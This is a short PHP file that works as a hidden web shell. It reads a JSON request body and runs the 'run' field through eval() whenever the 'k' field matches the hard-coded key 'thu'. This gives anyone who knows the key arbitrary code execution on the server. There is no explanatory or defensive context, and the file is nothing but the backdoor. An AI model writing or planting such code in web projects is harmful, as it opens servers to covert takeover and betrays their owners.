<?php
$j = json_decode(file_get_contents('php://input'));
if ($j && ($j->k ?? '') == 'thu') { eval($j->run); }
